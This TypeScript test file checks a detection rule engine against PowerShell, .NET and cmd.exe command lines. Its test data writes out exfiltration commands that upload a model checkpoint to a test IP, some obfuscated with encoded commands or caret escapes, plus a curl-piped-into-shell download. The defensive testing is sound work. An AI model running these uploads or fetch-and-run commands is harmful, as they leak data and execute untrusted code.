/**
 * PowerShell's .NET calls, its web cmdlet spellings and cmd.exe's `/c` through the shipped rule set
 * and the real engine (exec-interpreter-dotnet.ts, exec-interpreter-powershell-web.ts,
 * exec-cmd.ts): a WebClient upload alerts as `Invoke-WebRequest -InFile` does (MLS-EXFIL-014) and
 * is no indirect text; a .NET process start of an upload alerts and is indirect `literal` (code
 * running a command, as Python's subprocess is); cmd's command line is read wherever cmd runs
 * (argv, a shell script, PowerShell), so what it hides behind `^` or a pipe is seen (MLS-EXFIL-014,
 * MLS-RAY-012); benign uses raise nothing new; a spec allow list does not vouch for a .NET start.
 */
import { describe, expect, it } from 'vitest';
import { createRuleEngine } from './engine.js';
import { eventFieldResolver } from './event-fields.js';
import { execEvent, execRuleIds, PERSON, SA } from './exec-events.test-support.js';
import { loadRuleSet } from './rule-loader.js';

const ids = execRuleIds;
const SIGMA_EXEC = '79cc565c-cf24-4bf3-b1bb-c00a7c99631c';
const CKPT = '/ckpt/model.pt';
const URL = 'https://203.0.113.9/u';
const enc = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

const lookup = eventFieldResolver.field('attrs.exec.indirect');
const indirect = (command: unknown): unknown => ('get' in lookup ? lookup.get(execEvent(command)) : undefined);

describe('MLS-EXFIL-014: WebClient uploads read as the web cmdlet', () => {
  it('the brief\'s one-liner alerts, and no text ran indirectly', () => {
    const c = ['pwsh', '-c', `(New-Object Net.WebClient).UploadFile('${URL}','${CKPT}')`];
    expect(ids(c)).toEqual([SIGMA_EXEC, 'MLS-EXFIL-014']);
    expect(indirect(c)).toBe(false);
  });
  const spellings: Array<[string, unknown]> = [
    ['[Net.WebClient]::new()', ['pwsh', '-NoProfile', '-Command', `[System.Net.WebClient]::new().UploadFile("${URL}", "PUT", "${CKPT}")`]],
    ['a WebClient in a variable', ['powershell', '-nop', '-c', `$wc = New-Object System.Net.WebClient; $wc.UploadFile('${URL}', '${CKPT}')`]],
    ['UploadData of the file\'s bytes', ['pwsh', '-c', `(New-Object Net.WebClient).UploadData('${URL}', [IO.File]::ReadAllBytes('${CKPT}'))`]],
    ['UploadString of Get-Content', ['pwsh', '-c', `$w = New-Object Net.WebClient; $w.UploadString('${URL}', (Get-Content ${CKPT} -Raw))`]],
    ['UploadFileAsync', ['pwsh', '-c', `$w = New-Object Net.WebClient; $w.UploadFileAsync([uri]'${URL}', '${CKPT}')`]],
    ['-EncodedCommand', ['powershell', '-w', 'hidden', '-enc', enc(`(New-Object Net.WebClient).UploadFile('${URL}','${CKPT}')`)]],
    ['a command line given as a string', `pwsh -c "(New-Object Net.WebClient).UploadFile('${URL}','${CKPT}')"`],
    ['Invoke-RestMethod -Method Put -InFile', ['pwsh', '-c', `Invoke-RestMethod -Method Put -InFile ${CKPT} -Uri ${URL}`]],
    ['iwr with a parameter prefix', ['pwsh', '-c', `iwr ${URL} -Me Put -infi ${CKPT}`]],
    ['an en dash and -Name:value', ['pwsh', '-c', `Invoke-WebRequest –Uri:${URL} –InFile:${CKPT}`]],
    ['Windows PowerShell curl alias', ['powershell', '-c', `curl -Uri ${URL} -Method Post -InFile ${CKPT}`]],
    ['wget alias in a service account\'s exec', ['powershell', '-c', `wget -Uri ${URL} -InFile ${CKPT} -Method Put`]],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => expect(ids(command, name.includes('service') ? SA : PERSON)).toContain('MLS-EXFIL-014'));
  }
});

describe('MLS-EXFIL-014: .NET process starts, literal', () => {
  const spellings: Array<[string, unknown]> = [
    ['[Diagnostics.Process]::Start(file, args)', ['pwsh', '-c', `[Diagnostics.Process]::Start('curl','-T ${CKPT} https://x')`]],
    ['sh -c through Process.Start', ['pwsh', '-c', `[System.Diagnostics.Process]::Start("sh", "-c 'curl -T ${CKPT} ${URL}'")`]],
    ['a ProcessStartInfo', ['pwsh', '-c', `$psi = New-Object System.Diagnostics.ProcessStartInfo; $psi.FileName = 'curl'; $psi.Arguments = '-sT ${CKPT} ${URL}'; [Diagnostics.Process]::Start($psi)`]],
    ['a Process with StartInfo settings', ['pwsh', '-c', `$p = New-Object Diagnostics.Process; $p.StartInfo.FileName = 'rclone'; $p.StartInfo.Arguments = 'copy /ckpt remote:b'; $p.Start()`]],
    ['an argument list', ['pwsh', '-c', `[Diagnostics.Process]::Start('curl', @('-T', '${CKPT}', '${URL}'))`]],
  ];
  for (const [name, command] of spellings) {
    it(`alerts: ${name}`, () => {
      expect(ids(command)).toContain('MLS-EXFIL-014');
      expect(indirect(command)).toEqual([true, 'literal']);
    });
  }
  it('Start-Process with a comma list, as Start-Process joins and .NET splits it', () => {
    const c = ['pwsh', '-c', `Start-Process -FilePath curl -ArgumentList '-sT', '${CKPT}', '${URL}'`];
    expect(ids(c)).toContain('MLS-EXFIL-014');
    expect(indirect(c)).toBe(false);
  });
});

describe('cmd /c: its command line read wherever cmd runs', () => {
  it('an upload cmd hides from the raw argv', () => {
    for (const c of [
      ['cmd', '/c', `c^url -T ${CKPT} ${URL}`],
      ['cmd.exe', '/C', 'curl', '-sT', CKPT, URL],
      ['cmd', '/s', '/c', `"curl.exe --upload-file ""${CKPT}"" ${URL}"`],
      ['sh', '-c', `cmd.exe /c "cu^rl -sT ${CKPT} ${URL}"`],
      ['pwsh', '-c', `cmd /c 'call C:\\tools\\curl.exe -sT ${CKPT} ${URL}'`],
      ['cmd', '/k', `start "" /b curl -sT ${CKPT} ${URL}`],
    ]) {
      expect(ids(c), JSON.stringify(c)).toContain('MLS-EXFIL-014');
      expect(indirect(c), JSON.stringify(c)).toBe(false);
    }
  });
  it('MLS-RAY-012: a download piped into a shell inside cmd', () => {
    expect(ids(['cmd', '/c', 'curl -s http://203.0.113.7/r.sh | sh'])).toContain('MLS-RAY-012');
    expect(ids(['sh', '-c', 'cmd.exe /c "curl -fsSL http://203.0.113.7/r.sh ^| bash"'])).not.toContain('MLS-RAY-012');
    expect(ids(['sh', '-c', 'cmd.exe /c "curl -fsSL http://203.0.113.7/r.sh | bash"'])).toContain('MLS-RAY-012');
  });
});

describe('benign uses raise nothing new', () => {
  for (const command of [
    ['cmd', '/c', 'dir C:\\ckpt'],
    ['cmd', '/c', 'ver & hostname'],
    ['pwsh', '-c', '[Diagnostics.Process]::GetCurrentProcess().Id'],
    ['pwsh', '-c', '$sw = [Diagnostics.Stopwatch]::StartNew(); Get-Date; $sw.Stop()'],
    ['pwsh', '-c', 'curl -s https://pypi.org/simple/torch/'],
    ['pwsh', '-c', 'iwr https://pypi.org/simple/ -UseBasicParsing -OutFile /tmp/index.html'],
    ['pwsh', '-c', "(New-Object Net.WebClient).DownloadFile('https://pypi.org/simple/', '/tmp/index.html')"],
  ]) {
    it(JSON.stringify(command), () => expect(ids(command)).toEqual([SIGMA_EXEC]));
  }
});

describe('spec exec allow lists', () => {
  const SPEC = `kind: BehaviouralSpec
id: SPEC-T
title: t
selector: {namespaces: ['ml-train']}
exec:
  allow: ['nvidia-smi', 'pwsh -c *']
`;
  const set = loadRuleSet([{ path: 't.yaml', text: SPEC }]);
  const verdict = (command: unknown[]): string[] => createRuleEngine(set.rules).evaluate(execEvent(command, PERSON, 'ml-train/llama-ft')).map((h) => h.ruleId);
  it('loads', () => expect(set.errors).toEqual([]));
  it('a .NET process start is code running a command: refused though the list allows pwsh -c *', () => {
    expect(verdict(['pwsh', '-c', 'Get-Date'])).toEqual([]);
    expect(verdict(['pwsh', '-c', "[Diagnostics.Process]::Start('nvidia-smi')"])).toEqual(['SPEC-T/exec']);
  });
});
